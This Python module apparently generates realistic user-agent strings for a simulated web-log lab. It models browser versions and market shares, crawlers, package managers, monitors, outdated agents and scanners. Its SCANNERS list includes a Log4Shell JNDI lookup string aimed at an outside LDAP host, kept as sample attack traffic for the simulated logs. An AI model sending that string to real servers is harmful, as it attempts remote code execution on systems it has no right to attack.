"""User agents: real browsers in their real proportions, and the tools, bots and fakes around them.

Used by the visitor and attack modules of :mod:`opsconsole.lab.scenarios`.  Standard library only.
Browser versions follow the date of the log (Chrome and Firefox ship a major version every four
weeks, Safari one a year), so "current browsers" are current for whatever ``start`` a run uses,
with the real long tail of users a few versions behind.  Strings follow what each browser sends
today: Chrome's reduced UA (``Chrome/N.0.0.0``, ``Android 10; K``), Safari 26's frozen OS
version, pip's JSON user agent (with its quotes, which nginx escapes).
"""

from __future__ import annotations

import json
import random
from functools import lru_cache

from .core import pick

_DAY = 86400.0
_CHROME_131 = 1731369600.0  # 2024-11-12
_FIREFOX_133 = 1732579200.0  # 2024-11-26
_SAFARI_26 = 1757894400.0  # 2025-09-15: Safari 26, OS version frozen at 18_6 in the UA


def chrome_major(epoch: float) -> int:
    return 131 + int((epoch - _CHROME_131) // (28 * _DAY))


def firefox_major(epoch: float) -> int:
    return 133 + int((epoch - _FIREFOX_133) // (28 * _DAY))


def _safari(epoch: float, behind: int) -> tuple[str, str]:
    """(Safari version, iOS version token) of a user ``behind`` releases behind."""
    if epoch >= _SAFARI_26:
        years = int((epoch - _SAFARI_26) // (365 * _DAY))
        months = int((epoch - _SAFARI_26 - years * 365 * _DAY) // (30 * _DAY))
        major, minor = 26 + years, min(6, months // 2)
    else:
        major, minor = 18, min(6, max(0, int((epoch - 1726444800.0) // (60 * _DAY))))
    minor -= behind
    while minor < 0:
        major -= 1 if major != 26 else 8  # 26 followed 18
        minor += 6
    ios = "18_6" if major >= 26 else f"{major}_{minor}"
    return f"{major}.{minor}", ios


_WIN = "Windows NT 10.0; Win64; x64"
_MAC = "Macintosh; Intel Mac OS X 10_15_7"
_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_SAFARI_WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_SAMSUNG_MODELS = ("SM-S928B", "SM-S918B", "SM-A546B", "SM-A155F", "SM-G991B")


def _build(family: str, epoch: float, behind: int) -> str:
    c = chrome_major(epoch) - behind
    f = firefox_major(epoch) - behind
    if family == "chrome-win":
        return f"Mozilla/5.0 ({_WIN}) {_WEBKIT} Chrome/{c}.0.0.0 Safari/537.36"
    if family == "chrome-mac":
        return f"Mozilla/5.0 ({_MAC}) {_WEBKIT} Chrome/{c}.0.0.0 Safari/537.36"
    if family == "chrome-linux":
        return f"Mozilla/5.0 (X11; Linux x86_64) {_WEBKIT} Chrome/{c}.0.0.0 Safari/537.36"
    if family == "chrome-android":
        return f"Mozilla/5.0 (Linux; Android 10; K) {_WEBKIT} Chrome/{c}.0.0.0 Mobile Safari/537.36"
    if family == "edge-win":
        return f"Mozilla/5.0 ({_WIN}) {_WEBKIT} Chrome/{c}.0.0.0 Safari/537.36 Edg/{c}.0.0.0"
    if family == "opera-win":
        return (
            f"Mozilla/5.0 ({_WIN}) {_WEBKIT} Chrome/{c - 1}.0.0.0 Safari/537.36 OPR/{c - 16}.0.0.0"
        )
    if family == "samsung":
        model = _SAMSUNG_MODELS[behind % len(_SAMSUNG_MODELS)]
        s = 27 + int((epoch - 1735689600.0) // (100 * _DAY)) - behind // 2
        return (
            f"Mozilla/5.0 (Linux; Android 14; SAMSUNG {model}) {_WEBKIT} SamsungBrowser/{s}.0 "
            f"Chrome/{c - 8}.0.0.0 Mobile Safari/537.36"
        )
    if family == "firefox-win":
        return f"Mozilla/5.0 ({_WIN}; rv:{f}.0) Gecko/20100101 Firefox/{f}.0"
    if family == "firefox-linux":
        return f"Mozilla/5.0 (X11; Linux x86_64; rv:{f}.0) Gecko/20100101 Firefox/{f}.0"
    if family == "firefox-ubuntu":
        return f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{f}.0) Gecko/20100101 Firefox/{f}.0"
    if family == "firefox-mac":
        return (
            f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{f}.0) Gecko/20100101 Firefox/{f}.0"
        )
    if family == "firefox-android":
        return f"Mozilla/5.0 (Android 14; Mobile; rv:{f}.0) Gecko/{f}.0 Firefox/{f}.0"
    if family == "firefox-esr":
        esr = max(e for e in (115, 128, 140, 153, 166, 179, 192) if e <= f - 2)
        return f"Mozilla/5.0 (X11; Linux x86_64; rv:{esr}.0) Gecko/20100101 Firefox/{esr}.0"
    version, ios = _safari(epoch, behind)
    if family == "safari-mac":
        return f"Mozilla/5.0 ({_MAC}) {_SAFARI_WEBKIT} Version/{version} Safari/605.1.15"
    if family == "safari-iphone":
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) {_SAFARI_WEBKIT} "
            f"Version/{version} Mobile/15E148 Safari/604.1"
        )
    if family == "safari-ipad":
        return (
            f"Mozilla/5.0 (iPad; CPU OS {ios} like Mac OS X) {_SAFARI_WEBKIT} "
            f"Version/{version} Mobile/15E148 Safari/604.1"
        )
    if family == "chrome-ios":
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) {_SAFARI_WEBKIT} "
            f"CriOS/{c}.0.{6778 + 55 * (c - 131)}.{73 + 17 * behind} Mobile/15E148 Safari/604.1"
        )
    if family == "instagram-ios":
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) {_SAFARI_WEBKIT} "
            f"Mobile/15E148 Instagram {357 + c - 131}.0.0.24.84 (iPhone15,3; iOS {ios}; en_US; "
            "en; scale=3.00; 1290x2796; 662871345)"
        )
    raise ValueError(f"unknown browser family {family!r}")


# Shares of page views by browser family (desktop + mobile together), per kind of audience.
_FAMILIES = {
    "general": {
        "chrome-android": 27, "safari-iphone": 17, "chrome-win": 19, "edge-win": 5,
        "chrome-mac": 5, "safari-mac": 4, "firefox-win": 3, "samsung": 3, "chrome-ios": 2,
        "safari-ipad": 2, "opera-win": 1.5, "chrome-linux": 1.5, "firefox-linux": 1,
        "firefox-ubuntu": 0.7, "firefox-mac": 1, "firefox-android": 0.5, "firefox-esr": 0.3,
        "instagram-ios": 0.5,
    },
    "tech": {
        "chrome-android": 9, "safari-iphone": 8, "chrome-win": 18, "edge-win": 3,
        "chrome-mac": 13, "safari-mac": 6, "firefox-win": 6, "samsung": 1, "chrome-ios": 1,
        "safari-ipad": 1, "opera-win": 1, "chrome-linux": 9, "firefox-linux": 8,
        "firefox-ubuntu": 4, "firefox-mac": 4, "firefox-android": 1.5, "firefox-esr": 1.5,
    },
    "social": {
        "chrome-android": 30, "safari-iphone": 28, "chrome-win": 11, "edge-win": 2,
        "chrome-mac": 5, "safari-mac": 4, "firefox-win": 2, "samsung": 3, "chrome-ios": 3,
        "safari-ipad": 2, "chrome-linux": 2, "firefox-linux": 1.5, "firefox-mac": 1,
        "firefox-android": 0.7, "instagram-ios": 4,
    },
}  # fmt: skip
_LONG_TAIL = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 15_8_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/15.6.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_10 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/109.0.0.0 Safari/537.36",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (X11; Linux aarch64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Linux; U; Android 10; en-US; RMX2185 Build/QP1A.190711.020) AppleWebKit/534.30 "
    "(KHTML, like Gecko) Version/4.0 UCBrowser/13.4.0.1306 Mobile Safari/534.30",
    "Mozilla/5.0 (Linux; Android 9; SM-J530F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.6478.122 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
    "Safari/537.36 Vivaldi/7.0.3495.18",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 YaBrowser/24.6.0.0 Safari/537.36",
    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
    "w3m/0.5.3+git20230121",
)
"""Real people with odd browsers: phones and Macs stuck on old systems, IE11 in offices, smart
TVs, consoles, text browsers.  Together a few percent of visits, as on any real site."""
_TAIL_SHARE = {"general": 2.5, "tech": 3.5, "social": 1.5}

_BEHIND = (55.0, 24.0, 8.0, 4.0, 2.5, 1.8, 1.2, 0.9, 0.7, 0.5, 0.4, 0.3)
"""How many users run the current release, one behind, two behind … (auto-update lag)."""


@lru_cache(maxsize=64)
def browser_mix(epoch_day: int, kind: str = "general") -> tuple[tuple[str, ...], tuple[float, ...]]:
    """(user agents, cumulative weights) of real browsers on day ``epoch_day`` (epoch // 86400)."""
    epoch = epoch_day * _DAY
    weights: dict[str, float] = {}
    for family, share in _FAMILIES[kind].items():
        lags = _BEHIND[:6] if family.startswith(("safari", "chrome-ios", "instagram")) else _BEHIND
        for behind, lag in enumerate(lags):
            if family == "firefox-esr" and behind:
                break
            ua = _build(family, epoch, behind)
            weights[ua] = weights.get(ua, 0.0) + share * lag
    total = sum(weights.values())
    tail = total * _TAIL_SHARE[kind] / 100 / len(_LONG_TAIL)
    for ua in _LONG_TAIL:
        if kind != "tech" and ua.startswith(("Lynx", "w3m")):
            continue
        weights[ua] = weights.get(ua, 0.0) + tail
    uas = tuple(weights)
    cum, total = [], 0.0
    for ua in uas:
        total += weights[ua]
        cum.append(total)
    return uas, tuple(cum)


def pick_browser(rng: random.Random, epoch: float, kind: str = "general") -> str:
    uas, cum = browser_mix(int(epoch // _DAY), kind)
    return pick(rng, uas, cum)


def is_mobile(ua: str) -> bool:
    return "Mobile" in ua or "iPad" in ua


def full_chrome(rng: random.Random, major: int, platform: str = _WIN) -> str:
    """A Chrome UA with a full build number: what scrapers and old bots send (real Chrome has
    sent ``N.0.0.0`` since 2022)."""
    build = 4000 + (major - 80) * 70 + rng.randrange(60)
    return (
        f"Mozilla/5.0 ({platform}) {_WEBKIT} Chrome/{major}.0.{build}.{rng.randrange(40, 220)} "
        "Safari/537.36"
    )


GOOGLEBOT_CLASSIC = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def googlebot(rng: random.Random, epoch: float) -> str:
    c = chrome_major(epoch) - rng.randrange(2)
    full = f"{c}.0.{6778 + 55 * (c - 131)}.{rng.choice((69, 85, 108, 139, 204))}"
    r = rng.random()
    if r < 0.7:
        return (
            f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {_WEBKIT} Chrome/{full} "
            "Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
        )
    if r < 0.95:
        return (
            f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
            f"+http://www.google.com/bot.html) Chrome/{full} Safari/537.36"
        )
    return GOOGLEBOT_CLASSIC


BINGBOT = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
    "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
)
OTHER_CRAWLERS = {
    "applebot": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, "
    "like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "yandexbot": "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "ahrefsbot": "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "semrushbot": "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
}

APT = (
    "Debian APT-HTTP/1.3 (2.6.1)",  # Debian 12
    "Debian APT-HTTP/1.3 (3.0.3)",  # Debian 13
    "Debian APT-HTTP/1.3 (2.2.4)",  # Debian 11
    "Debian APT-HTTP/1.3 (2.7.14)",  # Ubuntu 24.04
    "Debian APT-HTTP/1.3 (2.4.13)",  # Ubuntu 22.04
)
_APT_WEIGHTS = (35, 15, 10, 25, 15)

_PYTHONS = (
    ("3.11.2", "Debian GNU/Linux", "12", "23.0.1", "OpenSSL 3.0.15 3 Sep 2024"),
    ("3.12.3", "Ubuntu", "24.04", "24.0", "OpenSSL 3.0.13 30 Jan 2024"),
    ("3.10.12", "Ubuntu", "22.04", "22.0.2", "OpenSSL 3.0.2 15 Mar 2022"),
    ("3.12.8", "Debian GNU/Linux", "12", "24.3.1", "OpenSSL 3.0.15 3 Sep 2024"),
    ("3.13.1", "Alpine Linux", "3.21.2", "24.3.1", "OpenSSL 3.3.2 3 Sep 2024"),
)


def apt(rng: random.Random) -> str:
    return rng.choices(APT, _APT_WEIGHTS)[0]


def pip(rng: random.Random) -> str:
    """pip's user agent: ``pip/VERSION`` and a JSON description of the machine."""
    if rng.random() < 0.18:
        return f"uv/0.{rng.randrange(4, 7)}.{rng.randrange(0, 20)}"
    py, distro, version, pip_v, ssl = rng.choice(_PYTHONS)
    data = {
        "ci": True if rng.random() < 0.5 else None,
        "cpu": rng.choice(("x86_64", "x86_64", "aarch64")),
        "distro": {"name": distro, "version": version},
        "implementation": {"name": "CPython", "version": py},
        "installer": {"name": "pip", "version": pip_v},
        "openssl_version": ssl,
        "python": py,
        "system": {"name": "Linux", "release": rng.choice(("6.1.0-28-amd64", "6.8.0-51-generic"))},
    }
    return f"pip/{pip_v} " + json.dumps(data, separators=(",", ":"))


GIT = (
    "git/2.39.5",
    "git/2.43.0",
    "git/2.34.1",
    "git/2.47.1",
    "git/2.45.2.windows.1",
    "git/2.48.1",
    "JGit/6.10.0.202406032230-r",
)
_GIT_WEIGHTS = (20, 25, 12, 15, 10, 10, 3)


def git(rng: random.Random) -> str:
    return rng.choices(GIT, _GIT_WEIGHTS)[0]


FEED_READERS = (
    "FreshRSS/1.25.0 (Linux; https://freshrss.org)",
    "Miniflux/2.2.5 (https://miniflux.app)",
    "Tiny Tiny RSS/24.09 (https://tt-rss.org/)",
    "NetNewsWire (RSS Reader; https://netnewswire.com/)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.6.0",
    "Feedbin feed-id:2871340 - 3 subscribers",
)
FEED_AGGREGATORS = {
    "feedly": "Feedly/1.0 (+https://feedly.com/poller.html; {n} subscribers; )",
    "inoreader": "Mozilla/5.0 (compatible; Inoreader/1.0; +http://www.inoreader.com/feed-fetcher;"
    " {n} subscribers; )",
    "newsblur": "NewsBlur Feed Fetcher - {n} subscribers - https://www.newsblur.com/site/6143251/"
    " (Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/17.5 Safari/605.1.15)",
}

MONITORS = {
    "uptimerobot": "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "pingdom": "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
}
BLACKBOX = "Blackbox Exporter/0.25.0"
KUMA = "Uptime-Kuma/1.23.16"

CLI = (
    "curl/7.88.1",
    "curl/8.5.0",
    "curl/8.11.1",
    "Wget/1.21.3",
    "Wget/1.24.5",
    "python-requests/2.32.3",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "axios/1.7.9",
    "python-httpx/0.28.1",
    "Python/3.12 aiohttp/3.11.11",
)
"""Command-line tools and HTTP libraries: scripts, integrations, downloads (and bots)."""

OUTDATED = (
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/99.0.4844.51 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/120.0.6099.109 Safari/537.36",
    "Opera/9.80 (Windows NT 6.0) Presto/2.12.388 Version/12.14",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 12_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/61.0.3163.100 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 8.0.0; SM-G960F Build/R16NW) AppleWebKit/537.36 (KHTML, "
    "like Gecko) Chrome/62.0.3202.84 Mobile Safari/537.36",
    "Java/1.8.0_292",
)
"""User agents real visitors send rarely or never any more (old botnet kits, headless tools)."""

SCANNERS = (
    "Mozilla/5.0 (l9scan/2.0.1303e2631313e2532323e23323; +https://leakix.net)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/91.0.4472.114 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36",
    "python-requests/2.27.1",
    "Go-http-client/1.1",
    "curl/7.74.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "${jndi:ldap://45.83.64.1:1389/Exploit}",
    "",
)
